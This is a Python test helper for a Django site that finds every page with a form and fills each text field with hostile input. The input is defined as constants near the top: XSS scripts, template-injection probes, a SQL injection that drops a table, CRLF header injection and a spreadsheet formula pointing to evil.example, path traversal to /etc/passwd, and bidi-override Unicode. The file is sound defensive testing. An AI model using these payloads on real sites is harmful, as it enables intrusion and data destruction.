"""Every page of the site with a form, what would do harm in its fields, and how a browser would fill it in."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager, nullcontext
from http.cookies import SimpleCookie
from types import SimpleNamespace
from typing import Any, NamedTuple

import pytest
from django import forms
from django.db import transaction
from django.forms.formsets import BaseFormSet
from django.template import Context, loader
from django.test import Client
from django.test.signals import template_rendered

from tests.access_table import table
from tests.told import addresses

MARK = "zaunkoenig"
MARKUP = f"{MARK}\"'><script>alert({MARK!r})</script><img src=x onerror=alert(1)>&lt;b&gt;"
TEMPLATE = "{{ 7|add:42 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>"
STATEMENT = "'; DROP TABLE families_person; --\\'); SELECT pg_sleep(9); --"
HEADER = "name\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/\r\n\r\n<html>"
PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
# Signs that are never meant in a text.
UNMEANT = "\u00ad\u200b\u200e\u202e\u2060\u2066\ufeff\u3164"
UNSEEN = f"a\x00b\x08c\u202egnp.exe{UNMEANT}\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
# Within a word, which is a mailbox so that those are accepted too.
IN_A_WORD = f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example"
LONG = "x" * 120_000
# Everything at once, since each form that takes one takes all; the longest that fits into a field.
TO_FIT = (
    f"{MARKUP} {TEMPLATE} {STATEMENT} {FORMULA} {HEADER} {PATH} {UNSEEN} {IN_A_WORD}",
    f"{MARKUP} {HEADER} {IN_A_WORD}",
    f"<script>alert({MARK!r})</script> {IN_A_WORD}",
    UNSEEN,
)
HOSTILE = TO_FIT[0]
# Users to try first for a page: those who may open most.
WHO = ("own coordinator", "own chair", "own social worker", "own team manager", "service manager", "administrator")


def forms_in(context: Any) -> Iterator[forms.BaseForm]:
    """Return every form a page was rendered with, including those within formsets."""
    seen: set[int] = set()
    for layer in context or []:
        for thing in list(getattr(layer, "flatten", lambda layer=layer: layer)().values()):
            found = list(thing.forms) if isinstance(thing, BaseFormSet) else [thing]
            for form in found:
                if isinstance(form, forms.BaseForm) and id(form) not in seen:
                    seen.add(id(form))
                    yield form


def filled(form: forms.BaseForm, text: str) -> dict[str, Any]:
    """Return hostile data for a form: valid choices and days, and ``text`` in every text field."""
    data: dict[str, Any] = {}
    for bound in form:
        name, field = bound.html_name, bound.field
        if isinstance(field, forms.FileField):
            continue
        if isinstance(field, forms.MultiValueField) or hasattr(field.widget, "widgets"):
            parts = {"day": "16", "month": "12", "year": "2026"}
            data |= {f"{name}_{part}": value for part, value in parts.items()}
            continue
        choices = [value for value, _ in _flat(getattr(field, "choices", []) or []) if str(value)]
        if choices:
            many = isinstance(field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField)
            first = str(choices[0].value if hasattr(choices[0], "value") else choices[0])
            data[name] = [first] if many else first
        elif isinstance(field, forms.IntegerField | forms.DecimalField):
            data[name] = str(bound.value() or 1)
        elif isinstance(field, forms.BooleanField):
            data[name] = "on"
        elif text == HOSTILE and isinstance(field, forms.EmailField):
            data[name] = IN_A_WORD
        elif text == HOSTILE:
            longest = getattr(field, "max_length", None) or len(text)
            data[name] = next((one for one in TO_FIT if len(one) <= longest), UNSEEN)
        else:
            data[name] = text
    return data


def _flat(choices: Any) -> Iterator[tuple[Any, Any]]:
    for choice in choices:
        value, label = (choice[0], choice[1]) if isinstance(choice, tuple | list) else (choice.value, choice)
        if isinstance(label, tuple | list):
            yield from _flat(label)
        else:
            yield value, label


def undone(act: Any, *clients: Client) -> Any:
    """Return what ``act`` answers, undoing what it did to the database and to the cookies of ``clients``."""
    before, cookies = transaction.savepoint(), [SimpleCookie(client.cookies) for client in clients]
    try:
        return act()
    finally:
        transaction.savepoint_rollback(before)
        for client, kept in zip(clients, cookies, strict=True):
            client.cookies = kept


def clients(world: SimpleNamespace) -> dict[str, Client]:
    found = {who: Client() for who in WHO}
    for who, client in found.items():
        client.force_login(world.actors[who])
    return found


class Page(NamedTuple):
    """A page with a form, as the first user who may open it got it."""

    name: str
    address: str
    client: Client
    forms: list[forms.BaseForm]
    html: str


@contextmanager
def unwritten() -> Iterator[None]:
    """Leave pages empty, but tell what a view gave to each."""
    drawn = loader.render_to_string

    def tell(name: str, context: Any = None, request: Any = None, using: Any = None) -> str:
        if request is None:
            return drawn(name, context, request, using)
        template_rendered.send(sender=None, template=None, context=Context(context))
        return ""

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(loader, "render_to_string", tell)
        yield


def takes_no_form(client: Client, address: str) -> bool:
    with unwritten():
        return undone(lambda: client.post(address), client).status_code == 405


def find_forms(world: SimpleNamespace) -> list[Page]:
    """Return every page with a form, with the first user who may open it.

    The first who may open a page is shown it. The others are asked only where a form is taken at all, and the page is
    only drawn if a form was given to it.
    """
    found = []
    signed_in, may_open = clients(world), table()
    for name, address in addresses(world).items():
        for place, client in enumerate(client for who, client in signed_in.items() if who in may_open[name][0]):
            with unwritten() if place else nullcontext():
                answer = undone(lambda c=client, a=address: c.get(a))
            if answer.status_code == 405 or "html" not in answer.get("Content-Type", "html"):
                # Files, and addresses that only take forms, are the same for whoever asks next.
                break
            if place and answer.status_code == 200 and any(forms_in(answer.context)):
                answer = undone(lambda c=client, a=address: c.get(a))
            on_page = list(forms_in(answer.context)) if answer.status_code == 200 else []
            if on_page:
                found.append(Page(name, address, client, on_page, answer.content.decode()))
                break
            if place == 0 and takes_no_form(client, address):
                break
    assert len(found) > 60
    return found
